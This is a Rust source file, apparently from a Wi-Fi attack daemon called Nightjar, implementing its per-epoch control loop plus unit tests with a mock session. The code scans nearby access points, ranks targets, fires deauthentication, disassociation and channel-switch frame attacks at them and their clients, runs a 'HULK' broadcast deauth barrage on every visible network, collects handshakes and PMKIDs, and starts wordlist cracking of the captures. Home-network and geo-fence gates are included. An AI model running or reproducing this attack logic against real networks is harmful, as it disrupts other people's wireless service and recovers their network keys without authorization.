/* This Source Code Form is subject to the terms of the Mozilla Public
 * License, v. 2.0. If a copy of the MPL was not distributed with this
 * file, You can obtain one at https://mozilla.org/MPL/2.0/.
 *
 * (c) 2024 The Nightjar Authors.
 */

//! The per-epoch control loop (C12, §4.12): the fourteen-step scan/attack
//! cycle that drives every other collaborator in this crate.

use std::collections::HashMap;
use std::time::Duration;

use nightjar_capture::Quality;
use nightjar_core::bandit::ap;
use nightjar_core::mood::{self, FrustrationInputs, Mood, MoodInputs};
use nightjar_crack::CrackTarget;
use nightjar_crack::manager::CheckResult;
use nightjar_crypto::format_mac;
use nightjar_frames::Orchestrator;
use nightjar_session::{ApInfo, StealthLevel};
use nightjar_util::{ms_monotonic, ms_since_epoch};

use crate::datadir::DataDir;
use crate::engine::Engine;
use crate::geo::{self, Fix};
use crate::persistence::{self, Totals};

/// Epochs between bandit-state saves (§6).
const SAVE_EVERY_EPOCHS: u64 = 10;
/// Inactivity streak that also counts as "idle enough to crack" alongside
/// the mood check (§4.12 step 13).
const IDLE_CRACK_INACTIVE_THRESHOLD: u32 = 3;

/// Tracks GPS speed between fixes for the adaptive-dwell mobility term.
#[derive(Default)]
pub struct MobilityTracker {
    last: Option<(Fix, i64)>,
}

impl MobilityTracker {
    pub fn new() -> Self {
        Self::default()
    }

    /// Meters/second since the previous fix, or `0.0` with fewer than two
    /// fixes recorded.
    fn observe(&mut self, fix: Fix, now_ms: i64) -> f64 {
        let speed = match self.last {
            Some((prev_fix, prev_ms)) => {
                let dt = ((now_ms - prev_ms).max(1)) as f64 / 1000.0;
                geo::distance_m(prev_fix, fix) / dt
            }
            None => 0.0,
        };
        self.last = Some((fix, now_ms));
        speed
    }
}

fn stealth_for(mood: Mood) -> StealthLevel {
    match mood {
        Mood::Lonely | Mood::Sad | Mood::Bored | Mood::Sleeping => StealthLevel::Passive,
        Mood::Excited | Mood::Angry => StealthLevel::Aggressive,
        _ => StealthLevel::Medium,
    }
}

/// Base dwell by AP density, then scaled by recent-handshake / mobility
/// factors and nudged by inactivity, clamped to the configured range.
fn adaptive_dwell_secs(engine: &Engine, ap_count: usize, speed_mps: f64) -> f64 {
    let mut dwell = if ap_count > 20 {
        2.0
    } else if ap_count > 10 {
        3.0
    } else if ap_count > 5 {
        5.0
    } else if ap_count > 0 {
        8.0
    } else {
        10.0
    };

    if engine.epoch.did_handshake {
        dwell *= 2.0 / 3.0;
    }
    if speed_mps > 5.0 {
        dwell *= 0.5;
    } else if speed_mps > 1.5 {
        dwell *= 0.75;
    }

    if engine.epoch.inactive_for > 10 {
        dwell += 3.0;
    } else if engine.epoch.inactive_for > 5 {
        dwell += 1.0;
    }

    dwell.clamp(engine.config.min_recon_time, engine.config.max_recon_time)
}

/// Run the daemon until `engine.running` is cleared (via the session
/// socket's shutdown path or a signal handler in `main`).
pub async fn run(engine: &mut Engine, data_dir: &DataDir) {
    let mut mobility = MobilityTracker::new();
    while engine.running {
        run_one_epoch(engine, data_dir, &mut mobility, None).await;
    }
}

/// Run a single epoch. `gps_fix` is `None` when no GPS collaborator is
/// attached; the geo-fence gate then defaults to "outside the fence" per
/// the fail-closed reading of §4.12 step 6.
pub async fn run_one_epoch(engine: &mut Engine, data_dir: &DataDir, mobility: &mut MobilityTracker, gps_fix: Option<Fix>) {
    // Step 1: manual-mode gate.
    if engine.manual_mode {
        let resume_mood = engine.mood;
        engine.mood = Mood::Sleeping;
        let _ = engine.session.pause().await;
        while engine.manual_mode && engine.running {
            tokio::time::sleep(Duration::from_millis(500)).await;
        }
        let _ = engine.session.resume().await;
        engine.mood = resume_mood;
        if !engine.running {
            return;
        }
    }

    let now_ms = ms_monotonic();

    // Step 2: possibly switch mode bandit.
    if engine.mode_bandit.is_due_for_reevaluation(now_ms) {
        let mode = engine.mode_bandit.select_mode(now_ms, &engine.rng);
        tracing::info!(?mode, epoch = engine.epoch.epoch_num, "operating mode re-selected");
    }

    // Step 3: poll the session source.
    let _events = engine.session.poll(100).await.unwrap_or_default();
    if engine.session.needs_sync() {
        tracing::debug!("full session-source table re-sync due");
    }

    let ap_count = engine.session.get_ap_count().await.unwrap_or(0);

    // Step 4: blind-epoch handling.
    if ap_count == 0 {
        engine.epoch.roll_blind_tracker(false);
        if engine.epoch.blind_for >= engine.config.mon_max_blind_epochs {
            let recovered = engine.firmware_recovery.attempt_recovery().await.is_ok();
            if !recovered || engine.recovery_escalation.record_attempt() {
                tracing::error!(blind_for = engine.epoch.blind_for, "firmware recovery exhausted; escalating");
            }
        }
        let bootstrapping = engine.mood == Mood::Starting;
        finish_epoch(engine, data_dir, now_ms, mobility, gps_fix, 0).await;
        // §4.12 step 4 pins the blind mood to LONELY regardless of what the
        // general decision tree would have produced from the (stale)
        // activity counters; apply it after `finish_epoch`'s own transition
        // so it isn't immediately clobbered. The very first epoch is left
        // alone so STARTING still advances to READY per the mood FSM's
        // bootstrap step.
        if !bootstrapping {
            engine.mood = Mood::Lonely;
        }
        tokio::time::sleep(Duration::from_secs_f64(engine.config.recon_time)).await;
        return;
    }
    engine.epoch.roll_blind_tracker(true);
    engine.recovery_escalation.reset();

    let mut aps = Vec::with_capacity(ap_count);
    for i in 0..ap_count {
        if let Ok(ap) = engine.session.get_ap(i).await {
            aps.push(ap);
        }
    }

    // Step 5: home-network gate.
    if home_network_visible(&engine.config, &aps) {
        finish_epoch(engine, data_dir, now_ms, mobility, gps_fix, aps.len()).await;
        tokio::time::sleep(Duration::from_secs_f64(engine.config.recon_time)).await;
        return;
    }

    // Step 6: geo-fence gate.
    let attacks_allowed = if engine.config.geo_fence_enabled {
        let speed = gps_fix.map(|fix| mobility.observe(fix, now_ms)).unwrap_or(0.0);
        let _ = speed;
        match gps_fix {
            Some(fix) => geo::inside_fence(fix, Fix { lat: engine.config.geo_fence_lat, lon: engine.config.geo_fence_lon }, engine.config.geo_fence_radius_m),
            None => false,
        }
    } else {
        true
    };

    // Step 7: build the channel order.
    let mut ap_counts: HashMap<u8, u32> = HashMap::new();
    for ap in &aps {
        *ap_counts.entry(ap.channel).or_insert(0) += 1;
    }
    let mut visible_channels: Vec<u8> = ap_counts.keys().copied().collect();
    if !engine.config.channels.is_empty() {
        visible_channels.retain(|c| engine.config.channels.contains(c));
    }
    let ordered_channels = engine.channel_bandit.order_channels(&visible_channels, &ap_counts, now_ms, &engine.rng);

    // Step 8: emit the sweep header for the UI/logs.
    tracing::info!(epoch = engine.epoch.epoch_num, mood = ?engine.mood, channels = ?ordered_channels, "epoch sweep starting");

    let snapshot_bytes = engine.total_handshake_bytes();

    // The AP/phase/channel most recently attacked this epoch; rewarded at
    // end-of-epoch if the capture directory grew (§4.12 step 10, §4.8
    // "the deferred handshake check at end-of-epoch").
    let mut pending_target: Option<([u8; 6], usize, u8)> = None;

    // Step 9: sweep each channel.
    for channel in &ordered_channels {
        engine.epoch.record_hop();
        engine.channel_bandit.record_visit(*channel, now_ms);
        let _ = engine.session.recon_channel(Some(std::slice::from_ref(channel))).await;

        let on_channel: Vec<&ApInfo> = aps.iter().filter(|a| a.channel == *channel).collect();
        engine.channel_bandit.record_aps_seen(*channel, on_channel.len() as u32);

        for ap in &on_channel {
            let entity = match engine.registry.get_or_create(ap.bssid, ms_since_epoch()) {
                Ok(e) => e,
                Err(_) => {
                    engine.epoch.record_miss();
                    continue;
                }
            };
            entity.ssid = ap.ssid.clone();
            entity.encryption = ap.encryption.clone();
            entity.vendor_oui = ap.vendor.clone();
            entity.channel = ap.channel;
            entity.beacon_interval = ap.beacon_interval;
            entity.clients_count = ap.clients_count;
            entity.last_rssi = ap.rssi as f64;
            entity.signal.update(ap.rssi as f64);
            entity.refresh_soft_identity();
        }

        if !attacks_allowed {
            continue;
        }

        let mut candidates: Vec<[u8; 6]> = Vec::new();
        for ap in &on_channel {
            if engine.config.filter_weak && ap.rssi < engine.config.min_rssi {
                continue;
            }
            if engine.blacklist.is_blacklisted(&ap.bssid, ms_since_epoch()) {
                continue;
            }
            if engine.classifier.get_handshake_quality(&format_mac(&ap.bssid), now_ms) == Quality::Full {
                continue;
            }
            candidates.push(ap.bssid);
        }
        candidates.sort_by_key(|mac| on_channel.iter().find(|a| a.bssid == *mac).map(|a| -a.rssi).unwrap_or(0));
        candidates.truncate(3);

        let mut fired_this_channel = false;
        for mac in candidates {
            let stas = gather_stas(engine, mac).await;
            let is_wpa3 = engine.registry.get(&mac).map(|e| e.is_wpa3()).unwrap_or(false);
            let has_handshake = engine.classifier.get_handshake_quality(&format_mac(&mac), now_ms) >= Quality::Pmkid;
            let stealth = stealth_for(engine.mood);

            let Some(entity) = engine.registry.get_mut(&mac) else { continue };
            let mut orchestrator = Orchestrator {
                session: engine.session.as_ref(),
                injector: engine.injector.as_ref(),
                rng: &engine.rng,
                seq: &mut engine.seq,
                tx_power_min: engine.config.tx_power_min,
                tx_power_max: engine.config.tx_power_max,
                throttle_a: engine.config.throttle_a,
                throttle_d: engine.config.throttle_d,
                attack_phase_enabled: engine.config.attack_phase_enabled,
            };
            let outcome = orchestrator.attack(entity, is_wpa3, &stas, engine.epoch.epoch_num, now_ms, stealth, has_handshake).await;

            if outcome.fired {
                fired_this_channel = true;
                engine.epoch.any_activity = true;
                engine.interactions.record_interaction(mac, ms_since_epoch());
                pending_target = Some((mac, outcome.phase, *channel));
                if engine.attack_tracker.track_deauth(mac, ms_since_epoch()) {
                    engine.attack_tracker.take(&mac);
                    engine.blacklist.insert(mac, ms_since_epoch());
                }
            }
        }

        if fired_this_channel {
            tokio::time::sleep(Duration::from_secs_f64(engine.config.hop_recon_time)).await;
        }
    }

    // Step 10: end-of-epoch reward pass. The pending target -- the AP/phase
    // actually attacked this epoch -- is rewarded in C3 and C10 on growth;
    // the channel it was on (falling back to the first swept channel when
    // nothing fired) is rewarded in C4, and the active mode in C5.
    let new_bytes = engine.total_handshake_bytes();
    let handshake_progress = new_bytes > snapshot_bytes;
    let rewarded_channel = pending_target.map(|(_, _, channel)| channel).or_else(|| ordered_channels.first().copied());
    if let Some(channel) = rewarded_channel {
        engine.channel_bandit.observe(channel, handshake_progress);
    }
    engine.mode_bandit.observe(engine.mode_bandit.current, handshake_progress);
    if handshake_progress {
        engine.epoch.record_handshake();
        engine.mode_bandit.record_handshake();
        engine.total_handshakes += 1;
        if let Some((mac, phase, _)) = pending_target {
            if let Some(entity) = engine.registry.get_mut(&mac) {
                ap::observe(entity, phase, true);
            }
            engine.attack_tracker.mark_handshake(&mac);
        }
        for entry in glob_pcap(engine.capture_dir()) {
            nightjar_capture::try_advisory_conversions(&entry).await;
        }
    }

    // Step 11: advance epoch, adapt dwell, save bandit state periodically.
    finish_epoch(engine, data_dir, now_ms, mobility, gps_fix, aps.len()).await;

    let dwell = adaptive_dwell_secs(engine, aps.len(), 0.0);
    tokio::time::sleep(Duration::from_secs_f64(dwell)).await;
}

/// True if either configured home SSID is visible above its RSSI floor.
fn home_network_visible(config: &nightjar_core::Config, aps: &[ApInfo]) -> bool {
    let primary = config.home_ssid.as_deref().is_some_and(|ssid| aps.iter().any(|a| a.ssid == ssid && a.rssi >= config.home_min_rssi));
    let secondary = config.home2_ssid.as_deref().is_some_and(|ssid| aps.iter().any(|a| a.ssid == ssid && a.rssi >= config.home2_min_rssi));
    primary || secondary
}

/// Query every STA the session source knows about, keep the ones associated
/// to `bssid`, and cap the result at 3-5 (§4.8: "iterate over up to 3-5
/// STAs of that AP") so a densely populated AP doesn't blow out a single
/// phase's frame count.
async fn gather_stas(engine: &Engine, bssid: [u8; 6]) -> Vec<[u8; 6]> {
    let count = engine.session.get_sta_count().await.unwrap_or(0);
    let mut out = Vec::new();
    for i in 0..count {
        if let Ok(sta) = engine.session.get_sta(i).await {
            if sta.ap_bssid == bssid && sta.associated {
                out.push(sta.mac);
            }
        }
    }
    let cap = engine.rng.range_u64(3, 6) as usize;
    out.truncate(cap);
    out
}

fn glob_pcap(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    std::fs::read_dir(dir)
        .map(|entries| {
            entries
                .flatten()
                .map(|e| e.path())
                .filter(|p| p.extension().and_then(|e| e.to_str()) == Some("pcap"))
                .collect()
        })
        .unwrap_or_default()
}

/// Steps 11-14: roll the epoch forward, update mood, drive idle cracking,
/// and garbage-collect the registry / interaction history.
async fn finish_epoch(engine: &mut Engine, data_dir: &DataDir, now_ms: i64, mobility: &mut MobilityTracker, gps_fix: Option<Fix>, ap_count: usize) {
    let _ = mobility;
    let _ = gps_fix;
    let _ = ap_count;

    engine.epoch.roll_activity_trackers();
    engine.epoch.roll_mood_trackers(engine.config.bored_num_epochs, engine.config.sad_num_epochs);

    let previous_mood = engine.mood;

    // Bootstrap states aren't produced by the decision tree (mood.rs docs);
    // the first epoch after construction advances STARTING to READY instead
    // of running the tree against a single epoch's worth of counters.
    if previous_mood == Mood::Starting {
        engine.mood = Mood::Ready;
    } else {
        let inputs = MoodInputs {
            num_missed: engine.epoch.num_missed,
            max_misses_for_recon: engine.config.max_misses_for_recon,
            sad_for: engine.epoch.sad_for,
            bored_for: engine.epoch.bored_for,
            active_for: engine.epoch.active_for,
            excited_num_epochs: engine.config.excited_num_epochs,
            support_network_factor_ge_2: false,
            all_visible_fully_captured: all_visible_fully_captured(engine, now_ms),
        };
        engine.mood = mood::transition(&inputs);
    }

    if mood::entered_angry(previous_mood, engine.mood) || mood::should_repeat_hulk(engine.mood, engine.epoch.epoch_num) {
        hulk(engine).await;
    }

    if engine.mood == Mood::Sad || engine.mood == Mood::Angry {
        let frustration = diagnose_current_frustration(engine, now_ms);
        tracing::info!(?frustration, "frustration diagnosis");
    }

    engine.epoch.reset_counters();
    engine.epoch.advance();

    if engine.epoch.epoch_num % SAVE_EVERY_EPOCHS == 0 {
        let totals = Totals { epoch_num: engine.epoch.epoch_num, total_handshakes: engine.total_handshakes };
        if let Err(err) = persistence::save(&data_dir.bandit_state_path(), totals, &engine.mode_bandit, &engine.registry) {
            tracing::warn!(%err, "failed to save bandit state; will retry next save interval");
        }
    }

    // Step 13: idle cracking.
    idle_crack_tick(engine).await;

    // Step 14: GC and pruning.
    engine.registry.gc(ms_since_epoch());
    engine.interactions.prune_expired(ms_since_epoch());
}

/// §4.11 steps 1 and 3's "cap at bored" / "bored only when all visible APs
/// captured" condition, read over the same attack-eligible set §4.12 step 9
/// and the frustration diagnosis use: non-evicted, not filtered out for
/// weak signal, not blacklisted. Every eligible entity must have a
/// PMKID-or-better capture on file; vacuously true with none eligible
/// (matching S2: a single filtered-out AP still lets mood reach bored).
fn all_visible_fully_captured(engine: &mut Engine, now_ms: i64) -> bool {
    let filter_weak = engine.config.filter_weak;
    let min_rssi = engine.config.min_rssi as f64;
    let candidates: Vec<[u8; 6]> = engine
        .registry
        .iter()
        .filter(|e| e.status != nightjar_core::entity::Status::Evicted)
        .filter(|e| !filter_weak || e.last_rssi >= min_rssi)
        .map(|e| e.mac)
        .collect();
    let eligible: Vec<[u8; 6]> = candidates.into_iter().filter(|mac| !engine.blacklist.is_blacklisted(mac, ms_since_epoch())).collect();
    eligible.iter().all(|mac| engine.classifier.get_handshake_quality(&format_mac(mac), now_ms) >= Quality::Pmkid)
}

/// §4.11 "among uncaptured-and-attack-eligible APs": skip anything already
/// holding a PMKID-or-better capture before tallying the frustration causes.
fn diagnose_current_frustration(engine: &mut Engine, now_ms: i64) -> mood::FrustrationReason {
    let macs: Vec<[u8; 6]> = engine.registry.iter().filter(|e| e.status != nightjar_core::entity::Status::Evicted).map(|e| e.mac).collect();
    let uncaptured: Vec<[u8; 6]> = macs.into_iter().filter(|mac| engine.classifier.get_handshake_quality(&format_mac(mac), now_ms) < Quality::Pmkid).collect();

    let mut inputs = FrustrationInputs::default();
    for mac in uncaptured {
        let Some(entity) = engine.registry.get(&mac) else { continue };
        inputs.total_eligible += 1;
        if entity.clients_count == 0 {
            inputs.zero_client_count += 1;
        }
        if entity.is_wpa3() {
            inputs.wpa3_count += 1;
        }
        if entity.last_rssi < engine.config.min_rssi as f64 {
            inputs.weak_signal_count += 1;
        }
        if engine.attack_tracker.deauth_count(&mac) >= 10 && !engine.attack_tracker.got_handshake(&mac) {
            inputs.deauths_without_handshake += 1;
        }
    }
    mood::diagnose_frustration(&inputs)
}

/// HULK: last-resort broadcast barrage (§4.11, fired on entering ANGRY and
/// every fifth epoch while it persists). Three session-source broadcast
/// deauths with 350-650 ms jitter, then per visible AP: broadcast deauth,
/// six-frame CSA beacon burst, CSA action, anon-reassoc, a bidi deauth and a
/// bidi disassoc against every connected STA, and one undirected probe.
async fn hulk(engine: &mut Engine) {
    tracing::warn!("HULK SMASH");

    for _ in 0..3 {
        let _ = engine.session.deauth(nightjar_session::DeauthTarget::Broadcast).await;
        let jitter_ms = engine.rng.range_f64(350.0, 650.0);
        tokio::time::sleep(Duration::from_secs_f64(jitter_ms / 1000.0)).await;
    }

    let targets: Vec<([u8; 6], String)> = engine.registry.iter().map(|e| (e.mac, e.ssid.clone())).collect();
    for (mac, ssid) in targets {
        let stas = gather_stas(engine, mac).await;

        let frames = nightjar_frames::deauth_broadcast(mac, &mut engine.seq, &engine.rng);
        send_frames(engine, frames).await;
        let frames = nightjar_frames::csa_beacon(mac, &ssid, &mut engine.seq);
        send_frames(engine, frames).await;
        let frames = nightjar_frames::csa_action(mac, &mut engine.seq);
        send_frames(engine, frames).await;
        let frames = nightjar_frames::anon_reassoc(mac, &ssid, &mut engine.seq, &engine.rng);
        send_frames(engine, frames).await;
        for sta in &stas {
            let frames = nightjar_frames::deauth_bidi(mac, *sta, &mut engine.seq, &engine.rng);
            send_frames(engine, frames).await;
            let frames = nightjar_frames::disassoc_bidi(mac, *sta, &mut engine.seq, &engine.rng);
            send_frames(engine, frames).await;
        }
        let frames = nightjar_frames::probe_undirected(&mut engine.seq, &engine.rng);
        send_frames(engine, frames).await;
    }
}

async fn send_frames(engine: &Engine, frames: Vec<nightjar_frames::BuiltFrame>) {
    for frame in frames {
        let _ = engine.injector.send(frame.bytes.as_ref());
        if let Some((min_ms, max_ms)) = frame.jitter_after_ms {
            let jitter = engine.rng.range_f64(min_ms, max_ms);
            tokio::time::sleep(Duration::from_secs_f64(jitter / 1000.0)).await;
        }
    }
}

/// §4.12 step 13: start a new crack attempt if idle-enough, else just poll
/// the currently running one for completion.
async fn idle_crack_tick(engine: &mut Engine) {
    let idle_enough = matches!(engine.mood, Mood::Bored | Mood::Lonely | Mood::Sad) || engine.epoch.inactive_for >= IDLE_CRACK_INACTIVE_THRESHOLD;

    if idle_enough {
        let targets = crack_targets(engine);
        let _ = engine.crack_manager.start(&targets).await;
    }

    match engine.crack_manager.check().await {
        Ok(CheckResult::Cracked { target, key }) => {
            tracing::info!(%target, "crack succeeded");
            engine.mood = Mood::Grateful;
            let _ = key;
        }
        Ok(CheckResult::NoKey { target }) => {
            tracing::debug!(%target, "crack attempt exhausted its wordlist without a key");
        }
        Ok(CheckResult::StillRunning) | Ok(CheckResult::NothingRunning) => {}
        Err(err) => tracing::warn!(%err, "crack manager check failed"),
    }
}

fn crack_targets(engine: &Engine) -> Vec<CrackTarget> {
    let dir = engine.capture_dir();
    let entries = match std::fs::read_dir(dir) {
        Ok(entries) => entries,
        Err(_) => return Vec::new(),
    };
    let mut targets = Vec::new();
    for entry in entries.flatten() {
        let path = entry.path();
        let Some(name) = path.file_name().and_then(|n| n.to_str()) else { continue };
        if !name.ends_with(".pcap") {
            continue;
        }
        let Some((ssid, _bssid)) = nightjar_capture::split_ssid_and_bssid(name) else { continue };
        targets.push(CrackTarget { pcap_path: path.clone(), basename: name.trim_end_matches(".pcap").to_string(), ssid });
    }
    targets
}

#[cfg(test)]
mod tests {
    use std::sync::atomic::Ordering;
    use std::sync::{Arc, Mutex};

    use nightjar_core::bandit::mode::ModeBandit;
    use nightjar_crack::CrackState;
    use nightjar_session::{ApInfo, DeauthTarget, NullInjector, RawInjector, SessionError, SessionEvent, SessionSource, StaInfo};

    use super::*;
    use crate::firmware_recovery::NullRecovery;

    /// A `SessionSource` backed by two in-memory tables the test populates
    /// directly, standing in for the out-of-process daemon (§6).
    #[derive(Default)]
    struct TestSession {
        aps: Mutex<Vec<ApInfo>>,
        stas: Mutex<Vec<StaInfo>>,
    }

    #[async_trait::async_trait]
    impl SessionSource for TestSession {
        async fn recon_on(&self) -> Result<(), SessionError> {
            Ok(())
        }
        async fn recon_channel(&self, _channels: Option<&[u8]>) -> Result<(), SessionError> {
            Ok(())
        }
        async fn deauth(&self, _target: DeauthTarget) -> Result<(), SessionError> {
            Ok(())
        }
        async fn assoc(&self, _mac: [u8; 6]) -> Result<(), SessionError> {
            Ok(())
        }
        async fn channel_switch_announce(&self, _mac: [u8; 6], _channel: u8) -> Result<(), SessionError> {
            Ok(())
        }
        async fn set_rssi_min(&self, _n: i32) -> Result<(), SessionError> {
            Ok(())
        }
        async fn set_tx_power(&self, _n: i32) -> Result<(), SessionError> {
            Ok(())
        }
        async fn set_ap_ttl(&self, _n: u32) -> Result<(), SessionError> {
            Ok(())
        }
        async fn set_sta_ttl(&self, _n: u32) -> Result<(), SessionError> {
            Ok(())
        }
        async fn set_region(&self, _region: &str) -> Result<(), SessionError> {
            Ok(())
        }
        async fn get_ap_count(&self) -> Result<usize, SessionError> {
            Ok(self.aps.lock().unwrap().len())
        }
        async fn get_ap(&self, index: usize) -> Result<ApInfo, SessionError> {
            self.aps.lock().unwrap().get(index).cloned().ok_or(SessionError::OutOfRange)
        }
        async fn get_sta_count(&self) -> Result<usize, SessionError> {
            Ok(self.stas.lock().unwrap().len())
        }
        async fn get_sta(&self, index: usize) -> Result<StaInfo, SessionError> {
            self.stas.lock().unwrap().get(index).cloned().ok_or(SessionError::OutOfRange)
        }
        async fn poll(&self, _deadline_ms: u64) -> Result<Vec<SessionEvent>, SessionError> {
            Ok(Vec::new())
        }
        fn needs_sync(&self) -> bool {
            false
        }
    }

    fn tempdir(name: &str) -> std::path::PathBuf {
        let mut dir = std::env::temp_dir();
        dir.push(format!("nightjar-control-loop-test-{}-{name}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        dir
    }

    fn test_config(dir: &std::path::Path) -> nightjar_core::Config {
        let mut cfg = nightjar_core::Config::default();
        // Collapse every sleep the loop takes to ~0 so a handful of epochs
        // run instantly instead of over tens of seconds of wall clock.
        cfg.recon_time = 0.0;
        cfg.min_recon_time = 0.0;
        cfg.max_recon_time = 0.001;
        cfg.hop_recon_time = 0.0;
        cfg.throttle_a = 0.0;
        cfg.throttle_d = 0.0;
        cfg.capture_dir = dir.to_string_lossy().into_owned();
        cfg.wordlist_dir = dir.to_string_lossy().into_owned();
        cfg
    }

    fn make_engine(session: TestSession, dir: &std::path::Path) -> (Engine, Arc<NullInjector>) {
        let injector = Arc::new(NullInjector::default());
        let engine = Engine::new(
            test_config(dir),
            Arc::new(session),
            injector.clone() as Arc<dyn RawInjector + Send + Sync>,
            Arc::new(NullRecovery) as Arc<dyn crate::firmware_recovery::FirmwareRecovery + Send + Sync>,
            CrackState::empty(dir.join("crack.state")),
            Totals { epoch_num: 0, total_handshakes: 0 },
            ModeBandit::new(),
            Vec::new(),
        );
        (engine, injector)
    }

    fn sample_ap(bssid: [u8; 6], ssid: &str, encryption: &str, channel: u8, rssi: i32, clients_count: u32) -> ApInfo {
        ApInfo { bssid, ssid: ssid.to_string(), encryption: encryption.to_string(), vendor: "de:ad:be".to_string(), channel, rssi, clients_count, beacon_interval: 100 }
    }

    /// S1 "Empty world": registry stays empty, no frames are ever injected,
    /// and mood settles on LONELY after the bootstrap epoch.
    #[tokio::test]
    async fn empty_world_settles_on_lonely_without_sending_frames() {
        let dir = tempdir("s1");
        let data_dir = DataDir::open(&dir).await.unwrap();
        let (mut engine, injector) = make_engine(TestSession::default(), &dir);
        let mut mobility = MobilityTracker::new();

        assert_eq!(engine.mood, Mood::Starting);
        run_one_epoch(&mut engine, &data_dir, &mut mobility, None).await;
        assert_eq!(engine.mood, Mood::Ready, "first epoch bootstraps STARTING to READY");

        for _ in 0..10 {
            run_one_epoch(&mut engine, &data_dir, &mut mobility, None).await;
            assert_eq!(engine.mood, Mood::Lonely);
        }

        assert_eq!(engine.registry.len(), 0);
        assert_eq!(injector.sent.load(Ordering::Relaxed), 0, "a blind epoch must never inject a frame");
        std::fs::remove_dir_all(&dir).ok();
    }

    /// S2 "One weak AP filtered": the AP is tracked but excluded from every
    /// candidate list, so it is never attacked and mood still reaches BORED
    /// once the inactivity streak crosses `bored_num_epochs`.
    #[tokio::test]
    async fn weak_ap_is_registered_but_never_attacked() {
        let dir = tempdir("s2");
        let data_dir = DataDir::open(&dir).await.unwrap();
        let mac = [0xaa, 0xbb, 0xcc, 0xdd, 0xee, 0xff];
        let session = TestSession::default();
        session.aps.lock().unwrap().push(sample_ap(mac, "WeakNet", "WPA2-PSK-CCMP", 6, -85, 0));

        let (mut engine, injector) = make_engine(session, &dir);
        engine.config.filter_weak = true;
        engine.config.min_rssi = -75;
        let mut mobility = MobilityTracker::new();

        let epochs = (engine.config.bored_num_epochs + 2) as usize;
        for _ in 0..epochs {
            run_one_epoch(&mut engine, &data_dir, &mut mobility, None).await;
        }

        assert_eq!(engine.registry.len(), 1, "the weak AP is still registered");
        assert_eq!(injector.sent.load(Ordering::Relaxed), 0, "a filtered-weak AP must never be attacked");
        assert_eq!(engine.mood, Mood::Bored);
        std::fs::remove_dir_all(&dir).ok();
    }

    /// A PMKID-phase success against a strong, clientless WPA2 AP rewards
    /// the per-AP bandit and the blacklist tracker's `got_handshake` flag
    /// once the capture directory grows (§4.12 step 10, S3).
    #[tokio::test]
    async fn handshake_growth_rewards_the_pending_target() {
        let dir = tempdir("s3");
        let data_dir = DataDir::open(&dir).await.unwrap();
        let mac = [0x11, 0x22, 0x33, 0x44, 0x55, 0x66];
        let session = TestSession::default();
        session.aps.lock().unwrap().push(sample_ap(mac, "OpenNet", "WPA2-PSK-CCMP", 6, -55, 0));

        let (mut engine, _injector) = make_engine(session, &dir);
        let mut mobility = MobilityTracker::new();

        // Let the entity get registered and attacked once before simulating
        // a capture appearing on disk.
        run_one_epoch(&mut engine, &data_dir, &mut mobility, None).await;
        run_one_epoch(&mut engine, &data_dir, &mut mobility, None).await;

        let before_alpha: [f64; nightjar_core::bandit::ap::NUM_PHASES] = engine.registry.get(&mac).unwrap().atk_alpha;

        std::fs::write(dir.join(format!("OpenNet_{}.pcap", nightjar_crypto::format_mac(&mac).replace(':', ""))), [0u8; 16]).unwrap();

        run_one_epoch(&mut engine, &data_dir, &mut mobility, None).await;

        let entity = engine.registry.get(&mac).unwrap();
        let grew = entity.atk_alpha.iter().zip(before_alpha.iter()).any(|(after, before)| after > before);
        assert!(grew, "at least one phase's alpha should grow once the capture directory gains bytes");
        assert!(engine.attack_tracker.got_handshake(&mac), "blacklist tracker should record got_handshake for the attacked AP");
        std::fs::remove_dir_all(&dir).ok();
    }
}
